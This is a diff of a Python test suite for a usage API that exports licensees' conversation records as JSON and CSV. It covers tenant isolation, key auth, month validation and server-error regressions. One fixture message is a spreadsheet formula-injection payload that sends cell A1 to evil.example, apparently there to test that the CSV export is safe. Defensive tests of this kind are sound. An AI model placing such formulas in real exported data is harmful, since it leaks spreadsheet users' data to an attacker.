@@ -76,7 +76,10 @@ def conversation(
             )
         if end:
             units.end_open(
-                conn, who.licensee_id, who.visitor_id, EndReason.CLOSED,
+                conn,
+                who.licensee_id,
+                who.visitor_id,
+                EndReason.CLOSED,
                 at + timedelta(minutes=len(texts) + 1),
             )
         return first
@@ -100,8 +103,11 @@ def shops(db: Database, make_tenant: Callable[..., Any]) -> dict[str, Any]:
         ),
         "feb": conversation(db, speaker(db, a.licensee.id, "v2"), FEB, ["hello", "more"]),
         "formula": conversation(
-            db, speaker(db, a.licensee.id, "v3"), FEB + timedelta(hours=2),
-            ['=HYPERLINK("http://evil.example/?"&A1,"click")'], reply=False,
+            db,
+            speaker(db, a.licensee.id, "v3"),
+            FEB + timedelta(hours=2),
+            ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
+            reply=False,
         ),
         "trial": conversation(
             db, speaker(db, a.licensee.id, "v4", test=True), FEB + timedelta(hours=3), ["test"]
@@ -122,8 +128,9 @@ def test_usage_json_shape_and_times_in_the_licensees_offset(
     client: httpx.Client, shops: dict[str, Any]
 ) -> None:
     ids = shops["ids"]
-    response = client.get(PATH, params={"month": "2026-02"},
-                          headers=bearer(shops["a"].keys.secret_key))
+    response = client.get(
+        PATH, params={"month": "2026-02"}, headers=bearer(shops["a"].keys.secret_key)
+    )
 
     assert response.status_code == 200
     assert response.headers["content-type"].startswith("application/json")
@@ -167,20 +174,29 @@ def test_a_unit_belongs_to_the_month_it_started_in_the_licensees_zone(
 
 def test_licensee_a_never_sees_licensee_b(client: httpx.Client, shops: dict[str, Any]) -> None:
     ids = shops["ids"]
-    a_rows = client.get(PATH, params={"month": "2026-02"},
-                        headers=bearer(shops["a"].keys.secret_key)).json()["conversations"]
-    b_data = client.get(PATH, params={"month": "2026-02"},
-                        headers=bearer(shops["b"].keys.secret_key)).json()
+    a_rows = client.get(
+        PATH, params={"month": "2026-02"}, headers=bearer(shops["a"].keys.secret_key)
+    ).json()["conversations"]
+    b_data = client.get(
+        PATH, params={"month": "2026-02"}, headers=bearer(shops["b"].keys.secret_key)
+    ).json()
     assert ids["b_feb"] not in {r["id"] for r in a_rows}
     assert [r["id"] for r in b_data["conversations"]] == [ids["b_feb"]]
     assert b_data["units"] == 1
-    a_csv = client.get(PATH, params={"month": "2026-02"},
-                       headers={**bearer(shops["a"].keys.secret_key), "Accept": "text/csv"})
+    a_csv = client.get(
+        PATH,
+        params={"month": "2026-02"},
+        headers={**bearer(shops["a"].keys.secret_key), "Accept": "text/csv"},
+    )
     assert ids["b_feb"] not in a_csv.text
-    assert ids["feb"] not in client.get(
-        PATH, params={"month": "2026-02"},
-        headers={**bearer(shops["b"].keys.secret_key), "Accept": "text/csv"},
-    ).text
+    assert (
+        ids["feb"]
+        not in client.get(
+            PATH,
+            params={"month": "2026-02"},
+            headers={**bearer(shops["b"].keys.secret_key), "Accept": "text/csv"},
+        ).text
+    )
 
 
 # ------------------------------------------------------------------------------ CSV
@@ -241,8 +257,9 @@ def test_usage_of_an_open_conversation_leaves_the_end_empty(
     key = shop.keys.secret_key
 
     rows = parse_csv(
-        client.get(PATH, params={"month": "2030-05"},
-                   headers={**bearer(key), "Accept": "text/csv"}).content
+        client.get(
+            PATH, params={"month": "2030-05"}, headers={**bearer(key), "Accept": "text/csv"}
+        ).content
     )
     line = dict(zip(COLUMNS, rows[1], strict=True))
     assert line["id"] == conv
@@ -318,14 +335,11 @@ def test_only_the_licensees_secret_key_opens_the_api(
 
 
 def status_of(client: httpx.Client, shops: dict[str, Any], month: str) -> int:
-    response = client.get(PATH, params={"month": month},
-                          headers=bearer(shops["a"].keys.secret_key))
+    response = client.get(PATH, params={"month": month}, headers=bearer(shops["a"].keys.secret_key))
     return response.status_code
 
 
-def test_a_missing_or_malformed_month_is_400(
-    client: httpx.Client, shops: dict[str, Any]
-) -> None:
+def test_a_missing_or_malformed_month_is_400(client: httpx.Client, shops: dict[str, Any]) -> None:
     assert client.get(PATH, headers=bearer(shops["a"].keys.secret_key)).status_code == 400
     months = ["", "2026-13", "26-01", "abc", "2026-00", "2026-1", "2026/02", "2026-02-01"]
     assert {m: status_of(client, shops, m) for m in months} == {m: 400 for m in months}
@@ -334,8 +348,8 @@ def test_a_missing_or_malformed_month_is_400(
 
 
 def test_a_month_that_only_int_accepts_is_400(client: httpx.Client, shops: dict[str, Any]) -> None:
-    """PRODUCT BUG: month_bounds validates with len() and int(); int() takes signs, '_',
-    surrounding spaces and non-ASCII digits, so ``2026-+2`` is served as February."""
+    """Regression: month parsing with len() and int() took signs, '_', surrounding spaces
+    and non-ASCII digits, so ``2026-+2`` was served as February."""
     months = ["2026-+2", "+026-02", "2_26-02", "２０２６-02", "2026-2 "]
     assert {m: status_of(client, shops, m) for m in months} == {m: 400 for m in months}
 
@@ -343,16 +357,17 @@ def test_a_month_that_only_int_accepts_is_400(client: httpx.Client, shops: dict[
 def test_a_month_at_the_edge_of_the_calendar_is_not_a_server_error(
     client: httpx.Client, shops: dict[str, Any]
 ) -> None:
-    """PRODUCT BUG: well-formed months whose bounds leave datetime's range (year 10000 for
-    9999-12; year 0 in UTC for 0001-01 in Shanghai) raise outside the InvalidInput handling
-    and become a 500."""
+    """Regression: months whose bounds leave datetime's range (year 10000 for 9999-12; year 0
+    in UTC for 0001-01 in Shanghai) raised outside the InvalidInput handling: a 500."""
     statuses: dict[str, int | str] = {}
     for month in ("9999-12", "0001-01"):
         # A fresh connection each: the server drops the connection after an unhandled error.
         try:
             statuses[month] = httpx.get(
-                client.base_url.join(PATH), params={"month": month},
-                headers=bearer(shops["a"].keys.secret_key), timeout=10,
+                client.base_url.join(PATH),
+                params={"month": month},
+                headers=bearer(shops["a"].keys.secret_key),
+                timeout=10,
             ).status_code
         except httpx.TransportError as exc:
             statuses[month] = f"connection failed: {exc}"
